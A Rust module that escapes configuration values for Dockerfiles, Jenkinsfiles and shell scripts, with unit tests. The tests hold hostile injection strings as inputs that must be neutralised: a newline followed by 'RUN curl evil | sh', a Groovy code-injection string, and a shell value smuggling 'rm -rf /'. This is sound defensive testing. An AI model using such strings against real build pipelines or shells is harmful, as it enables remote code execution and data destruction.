//! The one way a value from `kiln.toml` enters a Dockerfile, a Jenkinsfile or
//! a shell script.
//! YAML has its own module (`yaml`). Each format gets exactly one filter.

use serde_json::Value;

/// A value in a Dockerfile: numbers bare, strings double-quoted with `"` and
/// `\` escaped. A line break would start a new instruction and `$` would be
/// expanded, so strings holding either (or any control character) are
/// refused: validation keeps them out, and this is the last line of defence.
pub fn dockerfile(value: &Value) -> Result<String, String> {
    match value {
        Value::Number(n) => Ok(n.to_string()),
        Value::String(s) => {
            if let Some(bad) = s.chars().find(|c| c.is_control() || *c == '$') {
                return Err(format!(
                    "refusing to write {s:?} into a Dockerfile: it holds {bad:?}"
                ));
            }
            let mut out = String::with_capacity(s.len() + 2);
            out.push('"');
            for c in s.chars() {
                if matches!(c, '"' | '\\') {
                    out.push('\\');
                }
                out.push(c);
            }
            out.push('"');
            Ok(out)
        }
        other => Err(format!(
            "only strings and numbers can go into a Dockerfile, not {other}"
        )),
    }
}

/// A value in Groovy (a Jenkinsfile): numbers bare, strings as single-quoted
/// literals, which Groovy never interpolates, with `\`, `'` and every control
/// or non-ASCII character escaped.
pub fn groovy(value: &Value) -> Result<String, String> {
    match value {
        Value::Number(n) => Ok(n.to_string()),
        Value::Bool(b) => Ok(b.to_string()),
        Value::String(s) => {
            let mut out = String::with_capacity(s.len() + 2);
            out.push('\'');
            for c in s.chars() {
                match c {
                    '\\' => out.push_str("\\\\"),
                    '\'' => out.push_str("\\'"),
                    c if c.is_ascii_graphic() || c == ' ' => out.push(c),
                    c => {
                        let mut units = [0u16; 2];
                        for unit in c.encode_utf16(&mut units) {
                            out.push_str(&format!("\\u{unit:04x}"));
                        }
                    }
                }
            }
            out.push('\'');
            Ok(out)
        }
        other => Err(format!(
            "only strings, numbers and booleans can go into a Jenkinsfile, not {other}"
        )),
    }
}

/// A value in a POSIX shell script: one single-quoted word, which the shell
/// never expands, with each `'` written as `'\''`. Control characters are
/// refused: none of kiln's values holds one once validated.
pub fn shell(value: &Value) -> Result<String, String> {
    let text = match value {
        Value::Number(n) => n.to_string(),
        Value::String(s) => s.clone(),
        other => {
            return Err(format!(
                "only strings and numbers can go into a shell script, not {other}"
            ));
        }
    };
    if let Some(bad) = text.chars().find(|c| c.is_control()) {
        return Err(format!(
            "refusing to write {text:?} into a shell script: it holds {bad:?}"
        ));
    }
    Ok(format!("'{}'", text.replace('\'', "'\\''")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn dockerfile_values_cannot_start_an_instruction() {
        assert_eq!(dockerfile(&json!("node:22")).unwrap(), "\"node:22\"");
        assert_eq!(dockerfile(&json!("a\"b\\c")).unwrap(), "\"a\\\"b\\\\c\"");
        assert_eq!(dockerfile(&json!(8080)).unwrap(), "8080");
        for bad in ["x\nRUN curl evil | sh", "x\r\nUSER 0", "$HOME", "a\u{85}b"] {
            assert!(dockerfile(&json!(bad)).is_err(), "{bad:?}");
        }
        assert!(dockerfile(&json!(["a"])).is_err());
    }

    #[test]
    fn groovy_strings_never_interpolate_or_end_early() {
        assert_eq!(groovy(&json!("users")).unwrap(), "'users'");
        assert_eq!(
            groovy(&json!("a' + evil() + '${x}\\")).unwrap(),
            "'a\\' + evil() + \\'${x}\\\\'"
        );
        assert_eq!(groovy(&json!("l1\nl2")).unwrap(), "'l1\\u000al2'");
        assert_eq!(groovy(&json!("é")).unwrap(), "'\\u00e9'");
        assert_eq!(groovy(&json!(3)).unwrap(), "3");
    }

    #[test]
    fn shell_words_never_expand_or_end_early() {
        assert_eq!(shell(&json!("kiln.toml")).unwrap(), "'kiln.toml'");
        assert_eq!(
            shell(&json!("a'; rm -rf / #$(x)")).unwrap(),
            "'a'\\''; rm -rf / #$(x)'"
        );
        assert_eq!(shell(&json!(2)).unwrap(), "'2'");
        assert!(shell(&json!("a\nb")).is_err());
        assert!(shell(&json!(["a"])).is_err());
    }
}
